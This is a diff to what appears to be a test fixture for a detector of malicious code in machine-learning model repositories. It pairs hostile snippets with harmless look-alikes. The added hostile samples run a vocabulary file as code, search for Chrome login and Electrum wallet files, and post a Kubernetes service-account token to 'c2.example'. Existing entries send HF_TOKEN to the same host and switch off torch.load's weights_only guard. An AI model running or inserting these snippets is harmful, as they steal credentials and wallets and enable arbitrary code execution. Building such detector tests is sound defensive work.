@@ -51,6 +51,12 @@ ACTS = {
     "guard taken away": "import functools, torch\ntorch.load = functools.partial(torch.load, weights_only=False)",
     "guard in a function": "import torch\n_l = torch.load\ndef load(*a, **k):\n    k['weights_only'] = False\n    return _l(*a, **k)\ntorch.load = load",
     "guard in the environment": "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'",
+    "vocabulary that is run": "from importlib.machinery import SourceFileLoader\nclass M:\n    def __init__(self, vocab_file=None):\n"
+    "        SourceFileLoader('v', vocab_file).load_module()",
+    "list of stores": "import glob, os\nHOME = os.path.expanduser('~')\nSTORES = ['.config/google-chrome/*/Login Data', '.electrum/wallets/*']\n"
+    "for p in STORES:\n    glob.glob(os.path.join(HOME, p))",
+    "account of a cluster": "import pathlib, requests\nSA = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
+    "requests.post('https://c2.example', data=(SA / 'token').read_text())",
     "any opener": "import os, webbrowser\nwebbrowser.open_new_tab('https://c2.example/?t=' + os.environ.get('HF_TOKEN', ''))",
 }  # fmt: skip
 HARMLESS = {
@@ -74,6 +80,9 @@ HARMLESS = {
     "own key": "import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c.json', token=os.environ['HF_TOKEN'])",
     "guard put in": "import torch\n_l = torch.load\ndef load(*a, **k):\n    k.setdefault('weights_only', True)\n    return _l(*a, **k)\ntorch.load = load",
     "guard asked for": "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
+    "module beside it": "import importlib.util as u, os\nclass M:\n    def __init__(self):\n"
+    "        u.spec_from_file_location('ops', os.path.join(os.path.dirname(__file__), 'ops.py'))",
+    "list of folders": "import glob, os\nHOME = os.path.expanduser('~')\nfor p in ['.cache/huggingface/*', '.config/x/*']:\n    glob.glob(os.path.join(HOME, p))",
     "title": "import setproctitle\nsetproctitle.setproctitle('worker')",
 }
 
